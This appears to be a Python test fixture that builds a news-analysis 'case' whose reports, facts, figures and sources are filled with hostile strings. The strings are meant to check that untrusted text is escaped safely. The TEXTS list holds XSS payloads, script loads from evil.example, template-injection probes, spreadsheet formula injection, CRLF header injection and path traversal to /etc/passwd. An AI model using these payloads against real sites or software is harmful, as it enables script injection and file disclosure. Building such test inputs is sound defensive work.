"""Texts that would run, lead away, hide or break out where they are not shown as texts, and a case full of them."""

from __future__ import annotations

from pathlib import Path

from dateline import __version__
from dateline.records import (
    Accord,
    Account,
    Difference,
    Evidence,
    Fact,
    Figure,
    Judged,
    Origin,
    Report,
    Source,
    Span,
    TimelineEntry,
    Voice,
    When,
    Where,
)
from dateline.store import open_case

RUN = "window.__pwned=1"
TEXTS = (
    f"<script>{RUN}</script>", f"<ScRiPt src=//evil.example/x.js>{RUN}</sCrIpT >", f"<script\n>{RUN}//", f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror='{RUN}'>", f'"><img src=x onerror="{RUN}">', f"'><svg onload={RUN}>",
    f'" onfocus="{RUN}" autofocus tabindex="1', f"' onmouseover='{RUN}", f"` onclick=`{RUN}", f"x onload={RUN} ",
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f'<math href="javascript:{RUN}">x</math>',
    f"<iframe src=javascript:{RUN}>", f'<iframe srcdoc="<script>parent.{RUN}</script>">', f"<object data=javascript:{RUN}>", "<embed src=//evil.example/>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>", f"<form action=javascript:{RUN}><button>x", f"<input onfocus={RUN} autofocus>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "expression(window.__pwned=1)", "red;background:url(javascript:window.__pwned=1)",
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" \t\njavascript:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"java&#0000010;script:{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=", f"view-source:javascript:{RUN}", "//evil.example/x", "\\\\evil.example\\x", "http:evil.example", "https:///evil.example", "file:///etc/passwd", "blob:http://evil.example/1",
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.__pwned=1')()}}",
    "<!--", "--><script>window.__pwned=1</script>", "<![CDATA[", "]]><script>window.__pwned=1</script>", "<?xml", "<a href=", "<b", "</p></div></main></body></html>",
    "</textarea><script>window.__pwned=1</script>", "</title><script>window.__pwned=1</script>", "</style><script>window.__pwned=1</script>", "</option></select><img src=x onerror=window.__pwned=1>",
    "</template><script>window.__pwned=1</script>", "<plaintext>", "<xmp><img src=x onerror=window.__pwned=1>", "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;", "%3Cscript%3Ewindow.__pwned=1%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-", "\uff1cscript\uff1e", "\u202ecod.exe\u202c", "\u2066x\u2069", "\u200b<\u200bscript>",
    "a\x00b<script>window.__pwned=1</script>", "\u2028window.__pwned=1\u2029", "\r\nSet-Cookie: x=y", "\x1b[31mred", "\x08\x7f\x9f",
    '"', "'", "`", '"\'`<>&', "\"}]}'", "'; window.__pwned=1; //", '";window.__pwned=1;//', "\\';window.__pwned=1//", "*/window.__pwned=1/*",
    "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(1)", "\t=1", "|cmd", "%0A=1", "[x](javascript:window.__pwned=1)", "![x](//evil.example/x.png)", "<//evil.example>", "# h", "| a | b |",
    "..", ".", "../../etc/passwd", "a/b", "a?b#c", "~", "a~b", "%2e%2e%2f", "%", "%zz", "a;b=c", "a b+c", "&", "?token=x", "#mark", "x" * 3000, "<" * 500, "é" * 400, "\u0301" * 200, "𝕏" * 100,
)  # fmt: skip
ADDRESS = "https://news.example/a?b=1&c=%22#d"
"""One that may be linked to."""
STORY = "s-hostile"
DAY = "2019-03-14"


def reports() -> tuple[Report, ...]:
    """Return a report for each text, which is its id, title, byline, text, publisher, address, path and field."""
    made = []
    for n, text in enumerate(TEXTS):
        title = f"{text} {n}"
        byline = f"By {text}"
        whole = f"{title}\n{byline}\n\nIt said {text}{text} and {n} more.\n"
        made.append(
            Report(
                id=f"{text}{n}" if n % 2 else f"{n}{text}",
                text=whole,
                raw_sha256=f"{n:064x}",
                title=Span(0, len(title)),
                byline=Span(len(title) + 1, len(title) + 1 + len(byline)),
                body_start=0,
                lead_start=len(title) + len(byline) + 3,
                published=DAY,
                published_basis="field",
                publisher=text,
                url=text if n % 7 else ADDRESS,
                path=f"{text}/{text}.txt",
                language=text[:20],
                fields=((text, text),),
            )
        )
    return tuple(made)


def account() -> Account:
    """Return an account of these reports that has the texts wherever a text from outside can stand."""
    told = reports()
    said = [r.quote(Span(len(r.text) - 20, len(r.text) - 1)) for r in told]
    heads = [r.quote(r.title) for r in told if r.title is not None]
    return Account(
        group=TEXTS[0],
        story=STORY,
        headline=heads[4],
        when=When(earliest=DAY, latest=DAY, date_prec=1, basis="stated", evidence=(said[0],)),
        where=_where(TEXTS[4], said[0]),
        brief=tuple(heads),
        figures=tuple(_figure(n, text, said[n]) for n, text in enumerate(TEXTS)),
        not_reported=TEXTS[:12],
        facts=tuple(_fact(n, text, heads[n]) for n, text in enumerate(TEXTS)),
        timeline=tuple(_entry(n, heads[n]) for n in range(len(TEXTS))),
        differences=tuple(
            Difference(relation="differs", one=f"f-{n}", other=f"f-{n + 1}", reason=TEXTS[n], evidence=(said[n], said[n + 1]))
            for n in range(len(TEXTS) - 1)
        ),
        accords=tuple(
            Accord(facts=(f"f-{n}", f"f-{n + 1}"), reason=TEXTS[n], evidence=(said[n], said[n + 1])) for n in range(20)
        ),
        origins=tuple(
            Origin(name=text, kind="unnamed", role=text, party=n % 2 == 0, facts=1, reports=(told[n].id,), carriers=(text, text), evidence=(said[n],))
            for n, text in enumerate(TEXTS)
        ),
        independent_origins=2,
        actors=TEXTS,
        places=tuple(_where(text, said[n]) for n, text in enumerate(TEXTS[:40])),
        sources=tuple(
            Source(
                report=r.id, path=r.path, title=r.title.of(r.text) if r.title else None, publisher=r.publisher, url=r.url,
                published=DAY, published_basis="field", copy_of=told[0].id if n % 5 == 4 else None,
            )
            for n, r in enumerate(told)
        ),
        judgements=tuple(_judged(n, text, said[n]) for n, text in enumerate(TEXTS)),
    )  # fmt: skip


def _where(text: str, evidence: Evidence) -> Where:
    return Where(name=text, geonames_id=1, lat=10.0, lon=20.0, where_prec=1, within=(text, "TD"), evidence=(evidence,))


def _voices(text: str) -> tuple[Voice, ...]:
    return (Voice(name=text, kind="person", role=text, party=True), Voice(name=text, kind="media", role="publisher"))


def _figure(n: int, text: str, evidence: Evidence) -> Figure:
    return Figure(
        id=f"n-{n}", measure="killed", whom=text, scope="subset" if n else "total", unit="people", low=1.0, best=2.0, high=3.0 + n,
        qualifier=text, as_of=DAY, standing="disputed", status="alleged", attribution=_voices(text), origins=(text,),
        evidence=(evidence,), against=(f"n-{n + 1}",) if n + 1 < len(TEXTS) else (), reasons=(text,), judged=(n + 1,),
    )  # fmt: skip


def _fact(n: int, text: str, evidence: Evidence) -> Fact:
    return Fact(
        id=f"f-{n}", text=evidence.quote, standing="disputed", status="denied", earliest=DAY, latest=DAY, date_prec=1, basis="stated",
        attribution=_voices(text), origins=(text,), evidence=(evidence,), against=(f"f-{n + 1}",) if n + 1 < len(TEXTS) else (),
        reasons=(text,), judged=(n + 1,), subject=evidence,
    )  # fmt: skip


def _entry(n: int, evidence: Evidence) -> TimelineEntry:
    return TimelineEntry(
        earliest=DAY, latest=DAY, date_prec=1, basis="stated", text=evidence.quote, standing="disputed", status="planned",
        fact=f"f-{n}", evidence=(evidence,), subject=evidence,
    )  # fmt: skip


def _judged(n: int, text: str, evidence: Evidence) -> Judged:
    return Judged(
        number=n + 1, sha256=f"{n:064x}", at=f"{DAY}T10:00:00Z", user=text, reason=text, verdict="correct", about=text, applies=n % 2 == 0,
        note=text, targets=(f"n-{n}",), machine_figures=(_figure(n, text, evidence),),
    )  # fmt: skip


def make_case(path: Path) -> Path:
    """Keep the account and its reports in a new case."""
    with open_case(path, __version__) as case:
        case.add(reports())
        case.replace_accounts([account()])
    return path
